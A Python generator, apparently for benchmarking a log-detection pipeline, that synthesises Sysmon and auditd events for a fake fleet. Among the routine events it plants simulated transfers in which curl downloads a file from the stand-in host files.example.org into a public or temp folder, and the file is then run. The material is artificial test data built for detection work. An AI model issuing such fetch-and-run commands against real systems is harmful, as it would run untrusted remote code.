"""A day of a fleet as the rows that readers would spill: what programs do all day on each host, and a transfer now and then.

Half of the hosts are Windows (processes have GUIDs), half Linux (a pid is all). Each host has two logs that overlap in time.
Beside the rows it writes what the hosts' logs can show (`kinds.txt`) and where a transfer was planted (`planted.txt`), and it
prints the number of rows and the events per processor second of the sieve, which sees events before they become rows.
"""

from __future__ import annotations

import random
import sys
import time
from collections.abc import Iterator
from pathlib import Path

from tidewaiter import analytic
from tidewaiter.correlation.keys import visible_kind
from tidewaiter.pipeline.rows import Row, row_of, write_run
from tidewaiter.pipeline.run import ROWS_IN_MEMORY
from tidewaiter.pipeline.sieve import Sieve
from tidewaiter.schema.event import Event, EventKind

START = 1_767_348_000_000_000
DAY = 86_400_000_000
PLANTED_EVERY = 10_000
"""Events of all hosts for one transfer."""
SIEVED = 4
"""Hosts whose events the sieve is timed with."""
_BATCH = 2_000
_ROUNDS = 5
_KINDS = (EventKind.PROCESS_START, EventKind.FILE_CREATE, EventKind.CONNECTION, EventKind.FILE_RENAME, EventKind.IMAGE_LOAD)
_WEIGHTS = (20, 40, 25, 5, 10)
_WINDOWS = ("svchost", "conhost", "backgroundTaskHost", "RuntimeBroker", "WmiPrvSE", "cmd", "chrome", "powershell", "Teams")
_LINUX = ("dash", "grep", "sed", "cron", "python3.11", "node", "nginx", "postgres", "bash")


class Host:
    """One host and its processes."""

    def __init__(self, number: int) -> None:
        self.windows = number // 2 % 2 == 0
        self.name = f"{'ws' if self.windows else 'web'}{number:04}"
        self.chance = random.Random(number)
        self.programs = [f"C:\\Windows\\System32\\{one}.exe" if self.windows else f"/usr/bin/{one}" for one in
                         (_WINDOWS if self.windows else _LINUX)]  # fmt: skip
        self.alive = [(1_000 + place, program) for place, program in enumerate(self.programs)]
        self.pids = 5_000
        self.step = 0

    def event(self, kind: EventKind, time: int, pid: int, program: str, **fields: object) -> Event:
        """An event of one of its processes."""
        log = f"/evidence/{self.name}/{'Sysmon.evtx' if self.windows else 'audit.log'}{self.step % 2}"
        if self.windows:
            fields["process_key"] = f"{{0a1b2c3d-{self.name[2:]}-6958-0000-{pid:012x}}}"
        return Event(
            kind=kind, time=time, log_source="windows_sysmon" if self.windows else "linux_auditd", log_file=log,
            record=str(self.step), host=f"{self.name}.example.com", user="EXAMPLE\\ann", pid=pid, process_path=program,
            **fields,  # type: ignore[arg-type]  # fields by name
        )  # fmt: skip

    def start(self, time: int, program: str, line: str, parent: tuple[int, str]) -> tuple[int, Event]:
        """A new process."""
        self.pids += 4
        fields: dict[str, object] = {"command_line": line, "parent_pid": parent[0], "parent_path": parent[1]}
        if self.windows:
            fields["parent_key"] = f"{{0a1b2c3d-{self.name[2:]}-6958-0000-{parent[0]:012x}}}"
            fields["sha256"] = f"{hash(program) & 0xFFFFFFFFFFFF:064x}"
        return self.pids, self.event(EventKind.PROCESS_START, time, self.pids, program, **fields)

    def common(self, kind: EventKind, time: int) -> Event:
        """What happens all day."""
        pid, program = self.chance.choice(self.alive)
        if kind is EventKind.PROCESS_START:
            fresh = self.chance.choice(self.programs)
            number, event = self.start(time, fresh, f'"{fresh}" -k netsvcs --number {self.step}', (pid, program))
            self.alive.append((number, fresh))
            if len(self.alive) > 60:
                del self.alive[self.chance.randrange(9, 60)]
            return event
        if kind is EventKind.CONNECTION:
            peer = f"198.51.100.{self.step % 250}"
            return self.event(kind, time, pid, program, initiated=True, dst_ip=peer, dst_port=443, transport="tcp")
        if kind is EventKind.IMAGE_LOAD:
            return self.event(kind, time, pid, program, file_path=program.rsplit(".", 1)[0] + ".dll")
        folder = "C:\\Users\\ann\\AppData\\Local\\Temp\\" if self.windows else "/var/lib/monitor/"
        path = f"{folder}state-{self.step}.tmp"
        old = {"file_old_path": path + ".new"} if kind is EventKind.FILE_RENAME else {}
        return self.event(kind, time, pid, program, file_path=path, **old)

    def transfer(self, time: int) -> Iterator[Event]:
        """A file is fetched and run."""
        curl = "C:\\Windows\\System32\\curl.exe" if self.windows else "/usr/bin/curl"
        target = f"C:\\Users\\Public\\kit{self.step}.exe" if self.windows else f"/tmp/kit{self.step}"
        line = f"curl -o {target} http://files.example.org/kit{self.step}"
        pid, event = self.start(time, curl, line, self.chance.choice(self.alive))
        yield event
        yield self.event(EventKind.CONNECTION, time + 1, pid, curl, initiated=True, dst_ip="198.51.100.7", dst_port=80)
        yield self.event(EventKind.FILE_CREATE, time + 2, pid, curl, file_path=target)
        yield self.start(time + 3, target, target, self.chance.choice(self.alive))[1]

    def events(self, count: int, planted: int) -> Iterator[list[Event]]:
        """A day of events, those of a transfer together; so many transfers, evenly spread."""
        steps = {(2 * place + 1) * count // (2 * planted) for place in range(planted)}
        for kind in self.chance.choices(_KINDS, _WEIGHTS, k=count):
            self.step += 1
            time = START + self.step * DAY // count
            yield list(self.transfer(time)) if self.step in steps else [self.common(kind, time)]


def _sieved(count: int) -> float:
    """Events per processor second of the sieve, by those of a few hosts; each round with a sieve that remembers nothing."""
    events = [event for number in range(SIEVED) for few in Host(number).events(count, 0) for event in few]
    spent = 0.0
    for _ in range(_ROUNDS):
        sieve = Sieve([entry.load() for entry in analytic.REGISTER])
        start = time.process_time()
        for place in range(0, len(events), _BATCH):
            sieve.findings(events[place : place + _BATCH])
        spent += time.process_time() - start
    return _ROUNDS * len(events) / spent


def fleet(folder: Path, hosts: int, count: int) -> int:
    """Run files of `count` events of each host, what the hosts' logs can show, and what was planted; returns the number of
    rows."""
    sieve = Sieve([entry.load() for entry in analytic.REGISTER])
    shown: list[str] = []
    planted: list[str] = []
    transfers = max(1, hosts * count // PLANTED_EVERY)
    runs = total = 0
    for number in range(hosts):
        host = Host(number)
        logs: dict[str, list[Row]] = {}
        kinds: set[str] = set()
        for events in host.events(count, (number + 1) * transfers // hosts - number * transfers // hosts):
            # the analytics are asked about transfers only: what they find elsewhere is not what is measured here
            found = sieve.examine(events) if len(events) > 1 else [(events[0], ())]
            if len(events) > 1:
                planted.append(f"{host.name} http://files.example.org/kit{host.step}")
            for event, findings in found:
                logs.setdefault(event.log_file, []).append(row_of(host.name, event, findings))
                kinds.add(visible_kind(event))
                total += 1
        shown.append(" ".join([host.name, *sorted(kinds)]))
        for rows in logs.values():
            for start in range(0, len(rows), ROWS_IN_MEMORY):
                write_run(folder / f"{runs:06}.run", rows[start : start + ROWS_IN_MEMORY])
                runs += 1
    (folder / "kinds.txt").write_text("\n".join(shown))
    (folder / "planted.txt").write_text("\n".join(planted))
    return total


if __name__ == "__main__":
    rows = fleet(Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]))
    _sieved(_BATCH)  # what is loaded when it is first needed
    print(rows, round(_sieved(min(int(sys.argv[3]), 20_000))))
